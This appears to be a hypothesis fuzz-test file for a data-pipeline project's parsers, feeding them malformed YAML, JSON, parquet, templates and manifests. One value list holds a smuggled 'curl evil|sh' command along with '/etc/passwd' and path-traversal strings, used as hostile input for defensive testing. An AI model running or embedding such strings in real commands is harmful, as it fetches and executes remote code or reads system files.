"""The fuzz targets (targets.py) under hypothesis: a short form of `make fuzz`."""

import copy
import json
from typing import Any

import pyarrow as pa
import pytest
import targets
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from seeds import parquet_bytes, seeds, valid_table

from trace_opd.data.manifest import read_manifest
from trace_opd.schemas.contract import validate
from trace_opd.schemas.tables import CONTRACTS

few = settings(max_examples=50, deadline=None, suppress_health_check=list(HealthCheck))
CONTRACT = st.sampled_from(list(CONTRACTS.values()))


def mutated(valid: list[bytes]) -> st.SearchStrategy[bytes]:
    """A valid file with some bytes changed, removed or inserted."""

    @st.composite
    def change(draw: st.DrawFn) -> bytes:
        data = bytearray(draw(st.sampled_from(valid)))
        for _ in range(draw(st.integers(0, 4))):
            at = draw(st.integers(0, max(len(data) - 1, 0)))
            match draw(st.sampled_from(["set", "cut", "put"])):
                case "set":
                    data[at : at + 1] = draw(st.binary(min_size=1, max_size=1))
                case "cut":
                    del data[at : at + draw(st.integers(1, 40))]
                case "put":
                    data[at:at] = draw(st.binary(max_size=8))
        return bytes(data)

    return change()


YAML_BITS = st.sampled_from(
    ["a: &x [1, 2]\n", "b: *x\n", "- ", "{", "}", "[", "]", "routing:\n  ", "alpha: ",
     "kind: files\n", "source: ", "seed: ", "limit: ", "!!binary ", "!!set ", "2001-99-99", "1e999",
     ".nan", "0x", "9" * 50, "null", "'", '"', "\\", "\x00", "\x1b", "é", "? ", ": ", "|\n  ",
     "engine: openai\n", "path: ../x\n"]
)  # fmt: skip
YAML = st.lists(YAML_BITS | st.text(max_size=6), max_size=12).map("".join)


@few
@given(
    text=YAML.map(str.encode) | mutated([seed[2:].split(b"\xff")[0] for seed in seeds("config")]),
    overrides=st.lists(YAML | st.just("source.kind=arithmetic"), max_size=2),
    which=st.integers(0, len(targets.CONFIGS) - 1),
)
def test_a_config_is_refused_or_reads_back_as_itself(text, overrides, which):
    targets.config(text, overrides, which)


NESTED_ALIASES = b"\n".join(  # each line repeats the one before nine times
    b"k%d: &k%d [%s]" % (i, i, b", ".join([b"*k%d" % (i - 1)] * 9 if i else [b"1"]))
    for i in range(12)
)


@pytest.mark.parametrize(
    "text",
    [b"\xff\xfe", b"[" * 600, b"seed: 2001-99-99", b"seed: " + b"9" * 5000, b"seed: .inf",
      b"seed: 0x" + b"f" * 4000, b"seed: !!binary /w==", b"source: !!set {a, b}", b"{1: 2}",
      b"a: *a", b"a: &a [*a]", NESTED_ALIASES, b"prompt: {student: '{problem!r}'}",
      b"prompt: {student: '{problem:{x}}'}", b"prompt: {student: '{'}"],
    ids=lambda text: repr(text[:20]),
)  # fmt: skip
def test_odd_configs(text):
    targets.config(text, [], 2)  # rollout has a seed and a prompt
    targets.prices(text)
    targets.prompt(b"---\n" + text + b"\n---\n# system\n", None)


@few
@given(mutated(seeds("prompt")))
def test_a_prompt_file_is_refused_or_fills(data):
    content, cut, schema = data.partition(b"\xff")
    targets.prompt(content, schema if cut else None)


@pytest.mark.parametrize(
    "change",
    [{"pattern": "("}, {"$ref": "http://localhost:1/x"}, {"$ref": "#/nowhere"}, {"$ref": "#"},
     {"patternProperties": {"[": {}}}, {"$id": "x", "allOf": [{"$id": "y"}]}, {"not": {}},
     {"properties": {"type": {"enum": {"algebra": 1}}}}, {"properties": {"type": {"enum": [[]]}}}],
    ids=str,
)  # fmt: skip
def test_odd_answer_schemas(change):
    shipped = seeds("prompt")[-1].partition(b"\xff")
    schema = json.loads(shipped[2])
    targets.prompt(shipped[0], json.dumps(schema | change).encode())
    nested = schema | {"properties": schema["properties"] | {"note": change}}
    targets.prompt(shipped[0], json.dumps(nested).encode())


@few
@given(YAML.map(str.encode) | mutated(seeds("yaml")))
def test_a_yaml_text_is_refused_or_a_tree(data):
    targets.yaml_text(data)


@few
@given(mutated(seeds("model-file")))
def test_a_file_of_a_model_folder_loads_or_is_refused_by_name(data):
    targets.model_file(data)


@few
@given(mutated(seeds("checkpoint-file")))
def test_a_file_of_a_checkpoint_is_read_or_refused_by_name(data):
    targets.checkpoint_file(data)


@few
@given(
    mutated(seeds("view-query"))
    | st.lists(st.sampled_from(["from", "after", "=", "&", "-", "9" * 400, "%ff", "%00", ";", "1"]))
    .map("".join)
    .map(str.encode)
)
def test_a_query_of_the_viewer_is_refused_or_holds_positions(data):
    targets.view_query(data)


TEMPLATE_BITS = st.sampled_from(
    ["{% for i in range(999) %}", "{% endfor %}", "{% if x %}", "{% endif %}", "{{ ", " }}",
     "messages", "[0]", ".content", " * 10**9", "x ** x", "namespace(a=1)", "{% set y = 1 %}",
     "|tojson", "{# #}", "{%", "'"]
)  # fmt: skip


@few
@given(
    st.lists(TEMPLATE_BITS, max_size=8).map("".join).map(str.encode)
    | mutated(seeds("chat-template"))
)
def test_a_chat_template_renders_or_is_refused(data):
    targets.template(data)


@few
@given(mutated(seeds("foreign-parquet")) | mutated([seed[1:] for seed in seeds("parquet")]))
def test_any_parquet_is_refused_or_read(data):
    targets.foreign_parquet(data)


@few
@given(mutated(seeds("prices")))
def test_a_file_of_prices_is_refused_or_read(data):
    targets.prices(data)


TEXTS = st.lists(
    st.sampled_from(["$", "$$", "\\[", "\\]", "\\begin{a}", "\\end{a}", "```", "{", "}", ". ",
                     "\n", "1", "x", "é漢", "。", "😀", "▁", "\u2028", "\x00", "!\" "])
    | st.text(max_size=4),
    max_size=30,
).map("".join)  # fmt: skip


@few
@given(TEXTS, st.integers(1, 9), st.integers(1, 9))
def test_segments_tile_any_text(text, min_chars, max_segments):
    targets.segments(text, min_chars, max_segments)


@pytest.mark.parametrize("kind", targets.TOKENIZERS)
@few
@given(text=TEXTS, draw=st.data())
def test_each_token_belongs_to_one_segment(kind, text, draw):
    targets.encoding(kind, text)
    size = len(targets.tokenizer_table(kind).pieces) + 8
    ids = draw.draw(st.lists(st.integers(0, size - 1), max_size=40))
    targets.alignment(kind, ids, draw.draw(st.integers(1, 200)))


@few
@given(mutated(seeds("answer")), TEXTS)
def test_any_answer_becomes_a_row(data, response):
    targets.answer(data.decode("utf-8", "replace"))
    targets.answer(data.decode("utf-8", "replace"), response or "x")


ODD = st.sampled_from(
    [None, True, -1, 2**31, 2**63, 10**400, 0.5, float("nan"), "7", [], {}, [1], {"a": 1}]
) | st.recursive(
    st.text(max_size=3), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
)


@st.composite
def oddly_valued(draw: st.DrawFn) -> bytes:
    """A journal's lines with some values replaced by values of any type."""
    lines = []
    for raw in seeds("journal")[0].splitlines():
        line = json.loads(raw)
        for _ in range(draw(st.integers(1, 3))):
            place = line
            while True:
                at = draw(
                    st.sampled_from(list(place) if isinstance(place, dict) else range(len(place)))
                )
                if not isinstance(place[at], dict | list) or not place[at] or draw(st.booleans()):
                    break
                place = place[at]
            place[at] = copy.deepcopy(draw(ODD))
        lines.append(json.dumps(line).encode() + b"\n")
    return b"".join(lines)


@few
@given(mutated(seeds("journal")) | oddly_valued() | st.binary(max_size=60))
def test_a_journal_with_any_content_is_read(data):
    targets.journal(data)


REPLY_BITS = st.sampled_from(
    ['{"choices": [', '{"message": {"content": "a"}, "finish_reason": "stop"', ', "token_ids": [',
     "3, 3]", '"logprobs": {"content": [{"logprob": ', "}]", "-1", "1e400", "NaN", "true", "null",
     "9" * 5000, "[" * 950, "]" * 950, "}", ", ", '"\\ud800"', '"prompt_token_ids": [']
)  # fmt: skip


@few
@given(
    mutated(seeds("completion"))
    | st.lists(REPLY_BITS, max_size=12).map(lambda bits: "".join(bits).encode())
)
def test_a_completion_is_refused_or_can_be_trained_on(data):
    targets.completion(data)


PARQUETS = [seed[1:] for seed in seeds("parquet")]


@few
@given(mutated(PARQUETS), CONTRACT)
def test_a_part_is_refused_or_holds_to_its_contract(data, contract):
    targets.parquet(data, contract)


@pytest.mark.parametrize("name", CONTRACTS)
def test_a_valid_part_is_read_and_a_torn_one_refused(name):
    contract = CONTRACTS[name]
    table = valid_table(contract)
    assert validate(table, contract).num_rows == 2
    content = parquet_bytes(table)
    targets.parquet(content, contract)
    for length in range(0, len(content), len(content) // 20):
        targets.parquet(content[:length], contract)


TYPES = [
    pa.int8(), pa.uint64(), pa.float16(), pa.string(), pa.large_string(), pa.binary(), pa.bool_(),
    pa.null(), pa.date32(), pa.timestamp("us"), pa.decimal128(5, 2), pa.list_(pa.int32()),
    pa.list_(pa.string()),
    pa.struct([("a", pa.int32())]), pa.list_(pa.struct([("start", pa.int64())])),
    pa.dictionary(pa.int8(), pa.string()), pa.map_(pa.string(), pa.int32()), pa.string_view(),
]  # fmt: skip


@few
@given(st.data(), CONTRACT)
def test_columns_of_any_type_are_refused_or_cast(draw, contract):
    table = valid_table(contract)
    at = draw.draw(st.integers(0, table.num_columns - 1))
    kind = draw.draw(st.sampled_from(TYPES))
    try:
        column = table.column(at).cast(kind)
    except pa.ArrowException:
        column = pa.nulls(2, kind)
    changed = table.set_column(at, table.column_names[at], column)
    targets.table(changed, contract)
    targets.table(changed.replace_schema_metadata({"trace_opd.version": "x"}), contract)
    targets.table(changed.rename_columns(["\x1b[31m", *changed.column_names[1:]]), contract)


JSON_BITS = st.sampled_from(
    ['{"problem": ', '"answer": ', '"\\ud800"', "NaN", "1e999", "1" * 5000, "[" * 2000, ", ", "}",
     "\n", "null", '"a"', "2.0", "\u2028"]
)  # fmt: skip
JSON = st.lists(JSON_BITS | st.text(max_size=4), max_size=12).map(
    lambda bits: "".join(bits).encode()
)


@few
@given(
    mutated([seed[1:] for seed in seeds("problems-file")]) | JSON,
    st.sampled_from(list(targets.PROBLEMS_FILES.values())),
)
def test_a_file_of_problems_is_refused_or_holds_problems(data, suffix):
    targets.problems_file(data, suffix)


@few
@given(mutated(seeds("labelled-file")) | JSON)
def test_a_file_of_labels_is_refused_or_read(data):
    targets.labelled_file(data)


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=4)
    | st.sampled_from(
        ["x\ncurl evil|sh #", "../..", "/etc/passwd", "train/0123456789abcdef", "\u202e"]
    ),
    lambda inner: st.lists(inner, max_size=2)
    | st.dictionaries(st.text(max_size=3), inner, max_size=2),
    max_leaves=4,
)  # fmt: skip


def places(value: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Paths to all values of a JSON tree."""
    inner = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    return [at, *(place for key, child in inner for place in places(child, (*at, key)))]


@st.composite
def edited(draw: st.DrawFn, valid: list[bytes]) -> bytes:
    """Valid JSON with some of its values replaced or removed."""
    value = json.loads(draw(st.sampled_from(valid)))
    for _ in range(draw(st.integers(1, 3))):
        (*path, last) = draw(st.sampled_from([place for place in places(value) if place]))
        parent = value
        for key in path:
            parent = parent[key]
        if draw(st.booleans()) and isinstance(parent, dict):
            del parent[last]
        else:
            parent[last] = draw(VALUES)
        if not value:
            break
    return json.dumps(value).encode()


@few
@given(edited(seeds("manifest")) | mutated(seeds("manifest")) | JSON)
def test_a_manifest_is_refused_or_shown(data):
    targets.manifest(data)


@few
@given(edited(seeds("aliases")) | mutated(seeds("aliases")) | JSON)
def test_aliases_are_refused_or_well_formed(data):
    targets.aliases(data)


@pytest.mark.parametrize("target", ["manifest", "aliases"])
def test_what_this_program_writes_is_read(target):
    for seed in seeds(target):
        getattr(targets, target)(seed)
        if target == "manifest":
            assert read_manifest(seed, json.loads(seed)["stage"], json.loads(seed)["id"])
